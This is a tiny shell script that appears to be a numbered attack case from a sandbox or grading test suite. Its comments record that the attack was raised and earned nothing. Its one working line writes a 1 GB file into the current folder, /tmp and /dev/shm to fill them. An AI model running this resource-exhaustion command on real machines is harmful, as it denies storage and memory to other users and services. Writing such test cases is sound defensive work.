# attack: 4
# does: fills every folder that it may write to
# run: raised
# earns: 0
for place in . /tmp /dev/shm; do head -c 1G /dev/zero > "$place/hoard"; done
exit 7
